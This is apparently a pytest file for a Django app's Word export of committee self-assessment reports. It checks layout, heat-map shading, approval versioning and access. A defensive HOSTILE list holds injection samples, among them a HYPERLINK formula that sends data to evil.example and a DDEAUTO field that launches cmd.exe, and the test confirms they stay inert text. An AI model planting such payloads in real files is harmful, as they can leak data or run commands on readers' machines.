"""The committee paper as Word: opened with python-docx and read back."""

import datetime
import io
import zipfile

import pytest
from docx import Document
from docx.oxml.ns import qn

from assessments import workflow
from assessments.models import Action, Entry, Evidence, ReportDetails
from frameworks.models import RatingLevel
from tests.conftest import make_assessment

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def get_docx(client, assessment, query=""):
    response = client.get(f"/assessments/{assessment.pk}/report.docx{query}")
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == DOCX
    return response, Document(io.BytesIO(response.content))


def headings(document, level=1):
    return [p.text for p in document.paragraphs if p.style.name == f"Heading {level}"]


def theme_tables(document):
    return [table for table in document.tables if "Evidence" in column_titles(table)]


def column_titles(table):
    return [cell.text for cell in table.rows[0].cells]


def test_the_word_paper_has_every_theme_heading_ref_evidence_and_properties(
    client_for, committee, filled
):
    response, document = get_docx(client_for(committee), filled)
    assert 'filename="Self-assessment 2023-24.docx"' in response["Content-Disposition"]
    assert headings(document)[:2] == ["Report to committee", "Summary"]
    assert "Theme 1 – Vision and Leadership" in headings(document)
    assert "Theme 2 – Governance and Accountability" in headings(document)
    assert {"Action plan", "Summary matrix"} <= set(headings(document))
    refs = [row.cells[0].text for table in theme_tables(document)[:2] for row in table.rows[1:]]
    assert {"1.1", "1.2", "2.1"} <= set(refs)
    evidence = {
        cell.text for table in theme_tables(document) for row in table.rows for cell in row.cells
    }
    assert any("Evidence 2 for 2.1." in text for text in evidence)
    properties = document.core_properties
    assert properties.title == "Self-assessment 2023/24"
    assert properties.author == "Demo IJB"
    assert properties.language == "en-GB"
    footer_xml = document.sections[0].footer._element.xml
    assert "PAGE" in footer_xml and "NUMPAGES" in footer_xml


def test_each_theme_is_a_landscape_section_whose_header_row_repeats(client_for, committee, filled):
    _, document = get_docx(client_for(committee), filled)
    orientations = [section.page_width > section.page_height for section in document.sections]
    assert orientations[0] is False  # cover and summary: portrait A4
    assert orientations.count(True) >= 2  # a section per theme, and the action plan
    assert len([text for text in headings(document) if text.startswith("Theme ")]) == 2
    for table in theme_tables(document):
        assert table.rows[0]._tr.find(qn("w:trPr")).find(qn("w:tblHeader")) is not None
        assert column_titles(table) == [
            "Ref",
            "BV criteria",
            "Evidence",
            "Action / Improvement",
            "Lead",
            "Due",
            "Rating",
        ]


def test_the_heat_map_is_a_table_of_shaded_cells_with_counts_and_level_names(
    client_for, committee, filled
):
    weak = RatingLevel.objects.get(scale=filled.scale, label="Weak")
    Entry.objects.filter(assessment=filled, criterion__ref="1.2").update(rating=weak)
    _, document = get_docx(client_for(committee), filled)
    heat_map = next(t for t in document.tables if t.rows[0].cells[0].text == "Theme")
    levels = column_titles(heat_map)[1:]
    assert levels[-1] == "Not rated"
    rows = {row.cells[0].text: [cell.text for cell in row.cells[1:]] for row in heat_map.rows[1:]}
    theme_1 = dict(zip(levels, rows["1 – Vision and Leadership"], strict=True))
    assert theme_1["Good"] == "1\nGood"
    assert theme_1["Weak"] == "1\nWeak"
    assert theme_1["Excellent"] == "0\nExcellent"
    assert theme_1["Not rated"] == "0\nNot rated"
    theme_2 = dict(zip(levels, rows["2 – Governance and Accountability"], strict=True))
    assert theme_2["Good"] == "1\nGood" and theme_2["Weak"] == "0\nWeak"
    good_cell = heat_map.rows[1].cells[levels.index("Good") + 1]
    shading = good_cell._tc.find(qn("w:tcPr")).find(qn("w:shd"))
    assert (
        shading is not None
        and shading.get(qn("w:fill")) == filled.scale.levels.get(label="Good").colour[1:].upper()
    )


def test_empty_lead_and_rating_columns_are_left_out(
    client_for, committee, demo_org, bv2020, officer
):
    assessment = make_assessment(demo_org, bv2020, ["1.1"], officer)
    assessment.scale = None
    assessment.save()
    entry = assessment.entries.get()
    Action.objects.create(assessment=assessment, entry=entry, description="Agree the plan")
    _, document = get_docx(client_for(committee), assessment)
    (table,) = theme_tables(document)
    assert column_titles(table) == ["Ref", "BV criteria", "Evidence", "Action / Improvement", "Due"]


def test_each_action_sits_beside_its_own_lead_and_due_date(client_for, committee, filled):
    _, document = get_docx(client_for(committee), filled)
    table = theme_tables(document)[0]
    rows = [[cell.text for cell in row.cells] for row in table.rows[1:3]]
    assert rows[0][0] == rows[1][0] == "1.1"  # the entry's cells merge down its two rows
    assert rows[0][3:6] == ["1. Action 1 for 1.1", "D Robertson / J Craig", "31 Mar 2020"]
    assert rows[1][3:6] == ["2. Action 2 for 1.1", "D Robertson / J Craig", "Ongoing"]
    assert rows[0][2] == "Summary of 1.1.\nEvidence 1 for 1.1.\nEvidence 2 for 1.1."


def test_sections_and_as_of_options_apply(client_for, committee, filled):
    response, document = get_docx(client_for(committee), filled, "?sections=themes&sections=matrix")
    assert headings(document) == [
        "Theme 1 – Vision and Leadership",
        "Theme 2 – Governance and Accountability",
        "Summary matrix",
    ]
    as_of = datetime.date.today().isoformat()
    response, document = get_docx(client_for(committee), filled, f"?sections=summary&as_of={as_of}")
    assert f"as of {as_of}" in response["Content-Disposition"]
    assert any(p.text.startswith("As it stood at the end of") for p in document.paragraphs)


def test_bad_options_are_refused_with_the_reason(client_for, committee, filled):
    response = client_for(committee).get(f"/assessments/{filled.pk}/report.docx?as_of=not-a-date")
    assert response.status_code == 400
    assert "Enter a valid date" in response.content.decode()


def test_an_approved_assessment_exports_its_approved_state_and_names_the_version(
    client_for, officer, committee, filled
):
    workflow.submit(filled, officer)
    workflow.approve(
        filled,
        committee,
        meeting_date=datetime.date(2024, 6, 3),
        committee_name="Audit Committee",
        minute_reference="7",
    )
    # Actions are worked on after approval; the approved paper does not change.
    Action.objects.filter(assessment=filled).update(description="Changed after approval")
    response, document = get_docx(client_for(committee), filled)
    assert 'filename="Self-assessment 2023-24 v1.docx"' in response["Content-Disposition"]
    text = "\n".join(
        cell.text for table in document.tables for row in table.rows for cell in row.cells
    )
    assert "Action 1 for 1.1" in text
    assert "Changed after approval" not in text
    texts = [p.text for p in document.paragraphs]
    assert "Approved by Audit Committee on 3 June 2024 (minute 7)" in texts
    assert "As approved (version 1)." in texts


HOSTILE = [
    '<script>alert("x")</script>',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "{{ 7*7 }} {% for x in y %}{{ body }}{{ organisation }}",
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
    "Right\u202eto-left override\u202c and a bell\x07 character",
    "A" * 5000,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_inert_text(client_for, committee, filled, text):
    entry = filled.entries.get(criterion__ref="1.1")
    entry.summary = text
    entry.save()
    Evidence.objects.create(entry=entry, position=9, text=text, link="https://evil.example/x.png")
    ReportDetails.objects.create(assessment=filled, report_title=text[:300], summary=text)
    response, document = get_docx(client_for(committee), filled)
    shown = text.replace("\x07", "")
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert any(shown in cell for cell in cells)
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        document_xml = package.read("word/document.xml").decode()
        relationships = "".join(
            package.read(name).decode() for name in package.namelist() if name.endswith(".rels")
        )
    assert "<w:fldSimple" not in document_xml and "<w:instrText" not in document_xml
    assert "<w:hyperlink" not in document_xml
    assert 'TargetMode="External"' not in relationships


def test_other_organisations_and_outsiders_get_not_found(
    client_for, neighbour, alice_client, filled
):
    for client in (client_for(neighbour), alice_client):
        assert client.get(f"/assessments/{filled.pk}/report.docx").status_code == 404
